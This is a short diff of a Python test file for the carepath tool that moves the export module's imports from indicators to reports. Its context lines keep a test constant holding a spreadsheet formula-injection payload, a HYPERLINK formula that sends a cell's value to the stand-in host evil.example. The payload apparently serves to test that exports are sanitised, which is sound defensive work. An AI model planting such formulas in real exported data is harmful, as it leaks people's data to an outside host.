@@ -13,8 +13,8 @@ from typer.testing import CliRunner
 
 from carepath.cli import app
 from carepath.engine.run import compute
-from carepath.indicators.export import FINGERTIPS_COLUMNS, export
 from carepath.indicators.library import builtin
+from carepath.reports.export import FINGERTIPS_COLUMNS, export
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -274,8 +274,8 @@ def test_sex_and_age_columns_say_who_the_denominator_counts(tmp_path):
     import yaml
 
     from carepath.indicators.definition import load_file
-    from carepath.indicators.export import _age, _sex
     from carepath.indicators.library import LIBRARY_DIR
+    from carepath.reports.export import _age, _sex
 
     def changed(name, change):
         data = yaml.safe_load((LIBRARY_DIR / f"{name}.yaml").read_text())
